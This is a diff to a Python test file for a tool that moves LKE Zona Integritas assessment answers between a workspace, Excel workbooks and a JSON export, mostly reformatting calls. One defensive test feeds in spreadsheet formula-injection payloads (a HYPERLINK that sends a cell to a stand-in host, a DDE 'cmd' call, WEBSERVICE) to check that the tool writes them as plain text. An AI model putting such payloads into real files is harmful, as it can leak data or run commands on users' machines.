@@ -44,8 +44,12 @@ def fill_workspace(folder: Path, definition: Definition) -> None:
                 "A.I.2.i.b": "Bukti dukung: SOP.pdf",
                 "A.II.5.iii.b": "dua\n\nBukti dukung: daftar LHKASN; tanda terima",
             }
-            plan = ImportPlan(Path("-"), LKE, answers=answers_of(definition, shift),  # type: ignore[arg-type]
-                              notes=notes)  # fmt: skip
+            plan = ImportPlan(
+                Path("-"),
+                LKE,
+                answers=answers_of(definition, shift),  # type: ignore[arg-type]
+                notes=notes,
+            )
             interop.apply_excel_import(ws, UNIT.code, tier, plan)
 
 
@@ -84,16 +88,31 @@ def test_export_then_import_is_lossless(
         for tier in TIERS:  # a workbook with every row blank, cleared on purpose
             blank = ImportPlan(Path("-"), LKE, rows=every_row)
             interop.apply_excel_import(ws, UNIT.code, tier, blank, clear_blank=True)
-        assert all(not a.value and not a.note for t in TIERS
-                   for a in ws.open_assessment(UNIT.code).answers[t].values())  # fmt: skip
+        assert all(
+            not a.value and not a.note
+            for t in TIERS
+            for a in ws.open_assessment(UNIT.code).answers[t].values()
+        )
     for tier in TIERS:
         args = ["import-excel", str(out), "--workspace", str(fresh), "--unit", UNIT.code]
         assert zi(*args, "--tier", tier, "--yes") == 0
     assert state(fresh) == before
     capsys.readouterr()
     # and importing it again changes nothing
-    assert zi("import-excel", str(out), "--workspace", str(fresh), "--unit", UNIT.code,
-              "--tier", "tpi", "--yes") == 0  # fmt: skip
+    assert (
+        zi(
+            "import-excel",
+            str(out),
+            "--workspace",
+            str(fresh),
+            "--unit",
+            UNIT.code,
+            "--tier",
+            "tpi",
+            "--yes",
+        )
+        == 0
+    )
     assert (
         "0 answers set, 0 answers cleared, 0 notes set, 0 notes cleared" in capsys.readouterr().out
     )
@@ -157,9 +176,11 @@ def _bad_files(tmp_path: Path) -> dict[str, Path]:
 
 
 def test_bad_files_give_one_message_exit_2_and_change_nothing(
-    ws_folder: Path, definition: Definition, tmp_path: Path,
+    ws_folder: Path,
+    definition: Definition,
+    tmp_path: Path,
     capsys: pytest.CaptureFixture[str],
-) -> None:  # fmt: skip
+) -> None:
     fill_workspace(ws_folder, definition)
     before = state(ws_folder)
     for expected, path in _bad_files(tmp_path).items():
@@ -175,14 +196,22 @@ def test_bad_files_give_one_message_exit_2_and_change_nothing(
 def test_export_portalrb(ws_folder: Path, definition: Definition, tmp_path: Path) -> None:
     fill_workspace(ws_folder, definition)
     out = tmp_path / "portalrb.json"
-    assert zi("export-portalrb", "--workspace", str(ws_folder), "--unit", UNIT.code,
-              "-o", str(out)) == 0  # fmt: skip
+    assert (
+        zi("export-portalrb", "--workspace", str(ws_folder), "--unit", UNIT.code, "-o", str(out))
+        == 0
+    )
     doc = json.loads(out.read_text(encoding="utf-8"))
     assert doc["format"] == "zi-portalrb/1" and doc["lke"] == LKE and doc["tahun"] == 2026
     soal = doc["soal"]
     assert len(soal) == 127 and list(soal) == [str(i) for i in range(1, 128)]
-    keys = {"node", "jawaban_unit", "jawaban_tpi", "catatan_unit", "bukti_dukung_unit",
-            "catatan_tpi"}  # fmt: skip
+    keys = {
+        "node",
+        "jawaban_unit",
+        "jawaban_tpi",
+        "catatan_unit",
+        "bukti_dukung_unit",
+        "catatan_tpi",
+    }
     assert all(set(s) == keys for s in soal.values())
     unit, tpi = answers_of(definition, 0), answers_of(definition, 1)
     for s in soal.values():
@@ -213,22 +242,31 @@ def test_unknown_unit_exits_2(ws_folder: Path, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "note",
-    ['=HYPERLINK("http://example.invalid/?"&A1,"klik")', "=1+1", "=cmd|' /C calc'!A0",
-     '=WEBSERVICE("http://example.invalid/")'],
-)  # fmt: skip
+    [
+        '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        '=WEBSERVICE("http://example.invalid/")',
+    ],
+)
 def test_notes_that_look_like_formulas_are_written_as_text(
     ws_folder: Path, definition: Definition, tmp_path: Path, note: str
 ) -> None:
     fill_workspace(ws_folder, definition)
     with Workspace.open(ws_folder, create=False, actor="tester") as ws:
         notes = {"A.I.1.i.a": note, "A.I.2.i.b": f"catatan\n\nBukti dukung: {note}"}
-        plan = ImportPlan(Path("-"), LKE, answers=answers_of(definition, 0),  # type: ignore[arg-type]
-                          notes=notes)  # fmt: skip
+        plan = ImportPlan(
+            Path("-"),
+            LKE,
+            answers=answers_of(definition, 0),  # type: ignore[arg-type]
+            notes=notes,
+        )
         interop.apply_excel_import(ws, UNIT.code, "unit", plan)
     before = state(ws_folder)
     out = tmp_path / "lke.xlsx"
-    assert zi("export-excel", "--workspace", str(ws_folder), "--unit", UNIT.code,
-              "-o", str(out)) == 0  # fmt: skip
+    assert (
+        zi("export-excel", "--workspace", str(ws_folder), "--unit", UNIT.code, "-o", str(out)) == 0
+    )
     sheet = load_workbook(out)["LKE ZI"]
     o8, p_row = sheet["O8"], definition.items["A.I.2.i.b"].excel_row
     assert o8.value == note and o8.data_type == "s" and o8.quotePrefix  # text, never a formula
@@ -238,6 +276,18 @@ def test_notes_that_look_like_formulas_are_written_as_text(
     assert re.search(r'<c r="O8"[^>]* t="inlineStr"><is><t>=', xml)  # a text cell
     assert not re.search(r"<f>[^<]*(HYPERLINK|WEBSERVICE|1\+1|cmd)", xml)
     for tier in TIERS:  # and read back: the same notes
-        assert zi("import-excel", str(out), "--workspace", str(ws_folder), "--unit", UNIT.code,
-                  "--tier", tier, "--yes") == 0  # fmt: skip
+        assert (
+            zi(
+                "import-excel",
+                str(out),
+                "--workspace",
+                str(ws_folder),
+                "--unit",
+                UNIT.code,
+                "--tier",
+                tier,
+                "--yes",
+            )
+            == 0
+        )
     assert state(ws_folder) == before
